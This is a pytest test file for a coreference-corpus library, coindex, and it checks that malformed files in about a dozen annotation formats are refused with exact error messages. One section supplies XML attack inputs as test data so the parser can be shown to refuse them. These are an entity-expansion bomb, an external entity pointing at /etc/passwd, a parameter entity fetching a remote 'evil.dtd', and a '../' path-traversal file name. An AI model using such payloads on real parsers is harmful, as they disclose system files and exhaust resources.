"""Bad input of every kind in every format: the place, what was found, what was expected, what to do; exit code 2."""

from __future__ import annotations

import gzip
import re
import time
import warnings
from pathlib import Path

import pytest

import coindex
from coindex.errors import CoindexError, DataWarning, FormatError, Problem
from coindex.formats.registry import MAY_BE_EMPTY, NAMES, TABLES, get_format
from command import run
from corefud_text import sentence
from samples import SAMPLES, Sample, lay_out

LINES = ["corefud", "conllua", "conll2012", "korkor", "brat", "json", "preco", "jsonlines"]
XML = ["ecbplus", "are", "rueval", "mmax2"]


def test_there_is_a_sample_of_each_format() -> None:
    assert list(SAMPLES) == [name for name in NAMES if get_format(name).read and name not in TABLES]
    assert sorted([*LINES, *XML, "text"]) == sorted(SAMPLES)


def read(path: Path, name: str | None = None, **options: str) -> list[coindex.Document]:
    return list(coindex.read(path, name, **options))


@pytest.mark.parametrize("name", SAMPLES)
def test_the_samples_are_good(name: str, tmp_path: Path) -> None:
    """Else no test below would say anything."""
    docs = read(lay_out(SAMPLES[name], tmp_path))
    assert sum(len(doc.entities) for doc in docs) >= (0 if name == "text" else 1)
    assert run("validate", tmp_path / SAMPLES[name].main).code == 0


def assert_refused(path: Path, name: str, place: str, found: str) -> None:
    """The same problem from Python, while collecting, and from the command line, which leaves nothing behind."""
    with pytest.raises(FormatError) as caught:
        read(path, name)
    message = str(caught.value)
    assert message.startswith(f"{path.parent}/{place}: {found}"), message
    problem = caught.value.problem
    assert problem.expected
    assert problem.remedy
    assert str(problem) in collected(path, name)
    before = sorted(path.parent.rglob("*"))
    for target in ("out.conllu", "made/out.txt.gz"):
        done = run("convert", path, path.parent / target, "--from", name)
        assert (done.code, done.out) == (2, b"")
        assert done.err.splitlines()[-1] == f"error: {message}"
        assert "Traceback" not in done.err
        left = [entry for entry in sorted(path.parent.rglob("*")) if entry.name != "made"]
        assert left == before
    done = run("validate", path, "--from", name)
    assert (done.code, "Traceback" in done.err) == (2, False)
    assert f"error: {message}\n" in done.out.decode()


def collected(path: Path, name: str) -> list[str]:
    problems: list[Problem] = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DataWarning)
        try:
            list(coindex.read(path, name, on_problem=problems.append))
        except FormatError as error:  # what cannot be read on
            problems.append(error.problem)
    return [str(problem) for problem in problems]


# --- encodings, line ends, compression


@pytest.mark.parametrize("name", LINES)
def test_a_byte_order_mark(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {sample.main: b"\xef\xbb\xbf" + sample.text.encode()})
    assert_refused(path, name, f"{sample.main}:1", "a byte order mark (UTF-8)")


@pytest.mark.parametrize("name", XML)
def test_a_byte_order_mark_is_allowed_in_xml(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    expected = read(lay_out(sample, tmp_path))
    assert read(lay_out(sample, tmp_path, {sample.main: b"\xef\xbb\xbf" + sample.text.encode()})) == expected


@pytest.mark.parametrize("name", LINES)
def test_mixed_line_ends(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {sample.main: sample.text.replace("\n", "\r\n", 1).encode()})
    assert_refused(path, name, f"{sample.main}:2", "mixed line ends: the lines before end in CR LF, this one in LF")


@pytest.mark.parametrize("name", [*XML, "text"])
def test_mixed_line_ends_are_allowed_in_xml_and_in_raw_text(name: str, tmp_path: Path) -> None:
    """XML makes them all one; raw text keeps every character."""
    sample = SAMPLES[name]
    expected = read(lay_out(sample, tmp_path))
    mixed = read(lay_out(sample, tmp_path, {sample.main: sample.text.replace("\n", "\r\n", 1).encode()}))
    assert [doc.tokens.forms for doc in mixed] == [doc.tokens.forms for doc in expected]
    if name == "text":
        assert mixed[0].text == "Ann left. She sings.\r\n"


@pytest.mark.parametrize("name", [*LINES, "text"])
def test_input_that_is_not_utf8(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    broken = sample.text.replace("Ann", "\udcc4nn").replace("mayor", "\udce4").replace("lát", "\udce1")
    line = broken[: re.search("[\udc80-\udcff]", broken).start()].count("\n") + 1  # type: ignore[union-attr]
    path = lay_out(sample, tmp_path, {sample.main: broken.encode(errors="surrogateescape")})
    assert_refused(path, name, f"{sample.main}:{line}", "bytes that are not UTF-8: b'\\x")


@pytest.mark.parametrize(
    ("name", "file"),
    [("ecbplus", "1_1ecb.xml"), ("are", "d.xml"), ("mmax2", "basedata/d_words.xml")],
)
def test_xml_that_is_not_utf8(name: str, file: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    text = sample.files[file]
    word = "Ann" if "Ann" in text else "mayor"
    path = lay_out(sample, tmp_path, {file: text.encode().replace(word.encode(), b"\xc4nn")})
    line = text[: text.index(word)].count("\n") + 1
    assert_refused(path, name, f"{file}:{line}", "not well-formed XML (not well-formed (invalid token))")


def test_a_text_beside_its_annotations_that_is_not_utf8(tmp_path: Path) -> None:
    for name, file, line in (("brat", "d.txt", 1), ("rueval", "1.txt", 3)):
        folder = tmp_path / name
        text = SAMPLES[name].files[file].replace("She", "\udcff").replace("Она", "\udcff")
        path = lay_out(SAMPLES[name], folder, {file: text.encode(errors="surrogateescape")})
        assert_refused(path, name, f"{file}:{line}", "bytes that are not UTF-8: b'\\xff")


@pytest.mark.parametrize("name", SAMPLES)
def test_a_truncated_gz(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    packed = gzip.compress(sample.text.encode())
    path = lay_out(sample, tmp_path)
    path.unlink()
    path = path.with_name(path.name + ".gz")
    path.write_bytes(packed[: len(packed) // 2])
    assert_refused(path, name, f"{path.name}:1", "broken gzip data (Compressed file ended before")
    done = run("convert", path, tmp_path / "out.conllu")  # nor can its format be found
    assert (done.code, "broken gzip data" in done.err, "Traceback" in done.err) == (2, True, False)


@pytest.mark.parametrize("name", [name for name in SAMPLES if name not in MAY_BE_EMPTY])
def test_an_empty_file(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {sample.main: b""})
    assert_refused(path, name, f"{sample.main}:1", "an empty file")


@pytest.mark.parametrize("name", [name for name in SAMPLES if name not in MAY_BE_EMPTY])
def test_a_file_of_white_space_is_refused_like_an_empty_one(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {sample.main: b" \n\n"})
    for chosen in (None, name):
        with pytest.raises(FormatError, match=rf"{path.name}:\d"):
            read(path, chosen)


def test_an_empty_file_is_a_text_without_annotations_in_brat(tmp_path: Path) -> None:
    path = lay_out(SAMPLES["brat"], tmp_path, {"d.ann": b""})
    for chosen in (None, "brat"):
        (doc,) = read(path, chosen)
        assert (doc.text, doc.entities) == ("Ann left. She sings.\n", ())
    (tmp_path / "d.txt").unlink()
    with pytest.raises(
        FormatError, match=r"d\.ann: annotations without their text; expected the file d\.txt beside it"
    ):
        read(path)


# --- one line of 5 MB

LONG = "x" * 5_000_000


def timed(path: Path, name: str) -> None:
    """Read it in at most 20 seconds of the processor, whatever runs beside the tests."""
    began = time.process_time()
    try:
        read(path, name)
    finally:
        assert time.process_time() - began < 20


@pytest.mark.parametrize("name", [name for name in LINES if name != "brat"])
def test_a_line_of_five_megabytes(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {sample.main: LONG.encode()})
    with pytest.raises(FormatError) as caught:
        timed(path, name)
    assert str(caught.value).startswith(f"{path}:1: ")
    assert len(str(caught.value)) < 600 + len(str(path))  # it is not quoted whole


@pytest.mark.parametrize("name", ["ecbplus", "are", "rueval", "mmax2", "brat"])
def test_a_line_of_five_megabytes_where_markup_is_expected(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {sample.main: LONG.encode()})
    with pytest.raises(FormatError) as caught:
        timed(path, name)
    assert str(caught.value).startswith(f"{path}:1: ")
    assert len(str(caught.value)) < 600 + len(str(path))


def test_a_line_of_five_megabytes_is_text_like_any_other(tmp_path: Path) -> None:
    """Raw text has no lines to be short."""
    path = lay_out(SAMPLES["text"], tmp_path, {"d.txt": LONG.encode()})
    (doc,) = read(path)
    assert doc.text == LONG
    words = ("word " * 1_000_000).encode()
    path.write_bytes(words)
    (doc,) = read(path)
    assert (doc.text, len(doc.tokens)) == (words.decode(), 1_000_000)


def test_a_value_of_five_megabytes_in_a_good_line(tmp_path: Path) -> None:
    """Long, but nothing is wrong with it."""
    sample = SAMPLES["corefud"]
    path = lay_out(sample, tmp_path, {sample.main: sample.text.replace("mayor", LONG).encode()})
    assert read(path)[0].tokens[1].form == LONG


# --- XML that attacks

BOMB = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">\n<!ENTITY c "&b;&b;&b;&b;&b;&b;">]>\n'
EXTERNAL = '<!DOCTYPE x [\n<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
PARAMETER = '<!DOCTYPE x [\n\n<!ENTITY % file SYSTEM "http://example.org/evil.dtd"> %file;]>\n'
XML_FILES = [(name, file) for name in XML for file in SAMPLES[name].files if not file.endswith(".txt")]


def with_prologue(text: str, prologue: str) -> bytes:
    declaration = '<?xml version="1.0"?>\n'
    body = re.sub(r"^<\?xml[^>]*>\n(<!DOCTYPE[^>]*>\n)?", "", text)
    return (declaration + prologue + body).encode()


@pytest.mark.parametrize(("name", "file"), XML_FILES)
@pytest.mark.parametrize(
    ("prologue", "line", "entity"), [(BOMB, 2, "'a'"), (EXTERNAL, 3, "'secret'"), (PARAMETER, 4, "'file'")]
)
def test_declared_entities_are_refused(
    name: str, file: str, prologue: str, line: int, entity: str, tmp_path: Path
) -> None:
    sample = SAMPLES[name]
    path = lay_out(sample, tmp_path, {file: with_prologue(sample.files[file], prologue)})
    assert_refused(path, name, f"{file}:{line}", f"a declared entity {entity}; expected plain XML; remove the")


@pytest.mark.parametrize(("name", "file"), XML_FILES)
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE words SYSTEM "words.dtd">\n',
        '<!DOCTYPE words SYSTEM "file:///no/such.dtd">\n',
        '<!DOCTYPE words PUBLIC "-//X//Y" "http://127.0.0.1:9/never.dtd">\n',
        '<!DOCTYPE words SYSTEM "words.dtd" [<!ELEMENT words ANY><!ATTLIST words id CDATA #IMPLIED>]>\n',
    ],
)
def test_an_external_dtd_is_ignored(name: str, file: str, doctype: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    expected = read(lay_out(sample, tmp_path))
    assert read(lay_out(sample, tmp_path, {file: with_prologue(sample.files[file], doctype)})) == expected


@pytest.mark.parametrize(("name", "file"), XML_FILES)
def test_xml_that_is_cut(name: str, file: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    text = sample.files[file].rstrip()
    cut = text[: text.rindex("<")]
    path = lay_out(sample, tmp_path, {file: cut.encode()})
    place = f"{file}:{cut.count(chr(10)) + 1}"
    assert_refused(path, name, place, "not well-formed XML (")


@pytest.mark.parametrize(("name", "file"), XML_FILES)
def test_xml_that_is_very_deep(name: str, file: str, tmp_path: Path) -> None:
    path = lay_out(SAMPLES[name], tmp_path, {file: b"<a>" * 100_000 + b"</a>" * 100_000})
    assert_refused(path, name, f"{file}:1", "elements 200 deep")


# --- what each format says wrongly: a replacement in a file, the line of the problem, and what is found

Case = tuple[str, str, str, int, str]
CASES: dict[str, list[Case]] = {
    "corefud": [
        ("d.conllu", "\tX\t_\t_\t0", "\tX\t_\t0", 5, "9 columns: "),
        ("d.conllu", "Entity=e1)", "Entity=e1", 6, "invalid brackets: Entity='e1'"),
        ("d.conllu", "Entity=e1)|", "", 5, "a mention of 'e1' that is never closed in its sentence"),
        ("d.conllu", "Entity=(e1-person-2-x:y", "Entity=_)", 5, "a closing bracket '_)' of a mention that was never"),
        ("d.conllu", "(e1-person-2", "(e1-person-3", 5, "head '3' of a mention of 2 words"),
        ("d.conllu", "# global.Entity = eid-etype-head-other\n", "", 4, "Entity= before any # global.Entity line"),
        ("d.conllu", "\n2\tmayor", "\n1\tmayor", 6, "the word id '1'"),
        ("d.conllu", "# sent_id = s2", "# sent_id = s1", 13, "duplicate sent_id 's1'"),
        ("d.conllu", "Entity=(e2[2/2]--1)", "_", 8, "only 1 of 2 parts of a mention of 'e2'"),
        ("d.conllu", "Bridge=e1<e3:part", "Bridge=e1e3", 14, "the relation 'e1e3'"),
    ],
    "conllua": [
        ("d.conllua", "\tleft\t_", "\tleft\t_\t_", 6, "14 columns: "),
        ("d.conllua", "\t)\t", "\t_\t", 4, "the mention 'm1' without its end"),
        ("d.conllua", "(EntityID=1|MarkableID=m1|Min=2", "_", 5, "a closing bracket ')' without an opening one"),
        ("d.conllua", "|Min=2", "|Min=two", 4, "the minimal span 'two'"),
        ("d.conllua", "EntityID=2|", "", 7, "a mention without EntityID"),
        ("d.conllua", "\n2\t", "\ntwo\t", 5, "the word id 'two'"),
        ("d.conllua", " IDENTITY", "", 1, "no column ID or IDENTITY"),
        ("d.conllua", "\t)\t", "\tm1\t", 5, "'m1' before the first item"),
    ],
    "conll2012": [
        ("d.conll", "\tDT\t*", "\tDT", 3, "a row of 12 columns"),
        ("d.conll", "(2)|1)", "(2))1)", 3, "'(2))1)' in the last column"),
        ("d.conll", "|1)", "", 2, "a mention of entity '1' that is never closed"),
        ("d.conll", "*\t(1\n", "*\t-\n", 3, "a closing bracket for entity '1' without an opening one"),
        ("d.conll", "#begin document (d); part 000\n", "", 1, "a row outside a document"),
        ("d.conll", "#end document\n", "", 5, "the end of the file inside a document"),
        ("d.conll", "\tShe\t", "\t\t", 5, "an empty word"),
    ],
    "korkor": [
        ("d.tsv", "\tVERB\tV\t_\t0\troot\t1", "\tVERB" + "\tV" * 9, 3, "a row of 16 columns"),
        ("d.tsv", "1\tAnna\t", "1\t\t", 2, "a row of 12 columns"),
        ("d.tsv", "id\tform\t", "nr\tword\t", 1, "the header 'nr"),
    ],
    "ecbplus": [
        ("1_1ecb.xml", 't_id="2" s', 't_id="1" s', 4, "duplicate t_id '1'"),
        ("1_1ecb.xml", 'sentence="1"', 'sentence="²"', 5, "token '3' with the sentence number '²'"),
        ("1_1ecb.xml", 'm_id="2"', 'm_id="1"', 8, "a markable with the m_id '1', which another has"),
        ("1_1ecb.xml", '<token_anchor t_id="3"/>', '<token_anchor t_id="9"/>', 9, "markable '3' on the token '9'"),
        (
            "1_1ecb.xml",
            '<source m_id="3"/>',
            '<source m_id="77"/>',
            13,
            "a CROSS_DOC_COREF relation of the markable '77'",
        ),
    ],
    "are": [
        ("d.xml", 'head="1"', 'head="3"', 2, "an entity of 2 words whose head is none of them"),
        ("d.xml", '<entity id="3">', '<entity id="1">', 3, "a second entity '1', the first is in line 2"),
        ("d.xml", '<entity id="3"/>', '<entity id="9"/>', 4, "<entity id='9'>, which refers to nothing in the text"),
        ("d.xml", '<entity id="2"', "<entity", 2, "an entity without an id"),
    ],
    "rueval": [
        ("groups.xml", 'group id="2"', 'group id="1"', 4, "a second group '1'"),
        ("groups.xml", 'offset="12"', 'offset="99"', 4, "characters 99 to 102 of a text of 22"),
        ("groups.xml", 'offset="12"', 'offset="-1"', 4, "offset='-1'"),
        ("groups.xml", 'offset="12"', 'offset="11"', 4, "the expression 'Она' where the text has"),
        ("groups.xml", 'head_offset="0"', 'head_offset="6"', 3, "a head outside group '1'"),
        ("groups.xml", 'file="1.txt"', 'file="../1.txt"', 2, "the text file '../1.txt'"),
        ("groups.xml", 'file="1.txt"', 'file="2.txt"', 2, "no text file"),
    ],
    "mmax2": [
        ("basedata/d_words.xml", 'id="word_2"', 'id="word_1"', 5, "a word with the id 'word_1', which another has"),
        ("markables/d_coref_level.xml", '"markable_2"', '"markable_1"', 5, "a markable with the id 'markable_1'"),
        (
            "markables/d_coref_level.xml",
            'span="word_1"',
            'span="word_9"',
            4,
            "markable 'markable_1' with the span 'word_9'",
        ),
        ("d.mmax", "d_words.xml", "e_words.xml", 3, "the words file 'e_words.xml', which does not exist"),
        ("d.mmax", "</words>", "</word>", 3, "not well-formed XML (mismatched tag)"),
    ],
    "brat": [
        ("d.ann", "T2\t", "T1\t", 2, "a second annotation 'T1'; the first is on line 1"),
        ("d.ann", "10 13", "10 99", 2, "annotation 'T2' with the offsets '10 99'"),
        ("d.ann", "10 13", "13 10", 2, "annotation 'T2' with the offsets '13 10'"),
        ("d.ann", "10 13", "²0 13", 2, "the line 'T2"),
        ("d.ann", "\tShe", "\tHim", 2, "annotation 'T2' with the text 'Him', where the document has 'She'"),
        ("d.ann", "Arg2:T2", "Arg2:T9", 5, "the annotation 'T9', which does not exist"),
        ("d.ann", "E1\tEvent:T3", "E1\tEvent", 4, "the line 'E1"),
    ],
    "json": [
        ("d.json", '"coindex": 1', '"coindex": 9', 1, "version 9"),
        ("d.json", '"head": 0', '"head": 5', 1, "the head 5 in entities[0].mentions[0]"),
        ("d.json", '"form": "up"', '"form": "on"', 1, "the token 4, which is not at character 8 of the text"),
        ("d.json", '"entities": []}', '"entities": []', 2, "invalid JSON ("),
        ("d.json", '"text": ""', '"text": []', 2, "'[]' for 'text' in the document"),
    ],
    "preco": [
        ("d.jsonl", "[[0, 0, 1]", "[[0, 0, 9]", 1, "the mention [0, 0, 9]"),
        ("d.jsonl", "[[0, 0, 1]", "[[0, -1, 1]", 1, "the mention '[0, -1, 1]' in mention_clusters[0]"),
        ("d.jsonl", '"mention_clusters": []}', '"mention_clusters": []', 2, "invalid JSON ("),
        ("d.jsonl", '[["Bob"]]', '[["Bob", 1]]', 2, "'1' among the strings of 'sentences'"),
    ],
    "jsonlines": [
        ("d.jsonlines", "[3, 3]", "[3, 9]", 1, "the span [3, 9] in a document of 4 words"),
        ("d.jsonlines", "[3, 3]", "[3, 1e400]", 1, "the mention '[3, Infinity]' in clusters[0]"),
        ("d.jsonlines", "[3, 3]", '[3, "3"]', 1, "the mention "),
        ("d.jsonlines", '"clusters": []}', '"clusters": []', 2, "invalid JSON ("),
        ("d.jsonlines", '[["Bob"]]', '"Bob"', 2, "'sentences' that is not a list of sentences"),
    ],
    "text": [],
}
FLAT = [(name, *case) for name, cases in CASES.items() for case in cases]


def test_every_format_has_cases() -> None:
    assert list(CASES) == list(SAMPLES)


@pytest.mark.parametrize(("name", "file", "old", "new", "line", "found"), FLAT)
def test_cases(name: str, file: str, old: str, new: str, line: int, found: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    text = sample.files[file]
    assert old in text
    path = lay_out(sample, tmp_path, {file: text.replace(old, new, 1).encode()})
    assert_refused(path, name, f"{file}:{line}", found)


@pytest.mark.parametrize("name", [name for name in SAMPLES if name != "text"])
def test_files_of_other_formats_are_refused(name: str, tmp_path: Path) -> None:
    """Another format's file read as this one: an error and no documents of nonsense, whatever it is."""
    for other, sample in SAMPLES.items():
        if other == name or {other, name} == {"preco", "jsonlines"}:  # which have their sentences in common
            continue
        folder = tmp_path / other
        path = lay_out(Sample(sample.main, sample.files), folder)
        with pytest.raises(CoindexError):
            read(path, name)


CUT = "Compressed file ended before the end-of-stream marker was reached"


def test_problems_of_several_files_are_all_reported(tmp_path: Path) -> None:
    """Also those behind a file that cannot be read at all."""
    (tmp_path / "a.conllu").write_text(sentence("a Entity=(e1)"), encoding="utf-8")
    (tmp_path / "b.conllu").write_bytes(b"")
    (tmp_path / "c.conllu.gz").write_bytes(gzip.compress(b"text" * 1000)[:20])
    (tmp_path / "d.conllu").write_text(sentence("1 a", "1 b"), encoding="utf-8")
    done = run("validate", tmp_path)
    lines = [line.partition(": ")[2].partition(";")[0] for line in done.out.decode().splitlines()]
    assert lines == [
        f"{tmp_path}/a.conllu:1: Entity= before any # global.Entity line",
        f"{tmp_path}/b.conllu:1: an empty file",
        f"{tmp_path}/c.conllu.gz:1: broken gzip data ({CUT})",
        f"{tmp_path}/d.conllu:2: the word id '1'",
    ]
    assert (done.code, done.err) == (2, "4 files: 4 errors, 0 warnings\n")
